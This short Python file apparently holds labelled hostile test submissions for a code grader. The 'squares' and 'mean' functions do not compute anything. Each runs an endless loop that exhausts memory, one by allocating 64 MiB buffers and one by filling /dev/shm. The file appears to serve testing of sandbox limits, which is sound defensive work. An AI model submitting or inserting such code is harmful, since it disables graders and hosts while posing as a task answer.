# ---
# note: takes memory until it is stopped, then more of it in /dev/shm
# known_from: denial of service
# harmful: it would fill the grader's memory
# ---
# %% plain squares-answer
def squares(n):
    taken = []
    while True:
        taken.append(bytearray(64 * 2**20))


# %% plain mean-answer
def mean(values):
    with open("/dev/shm/canary-of-an-attacker", "wb") as file:
        while True:
            file.write(bytes(64 * 2**20))
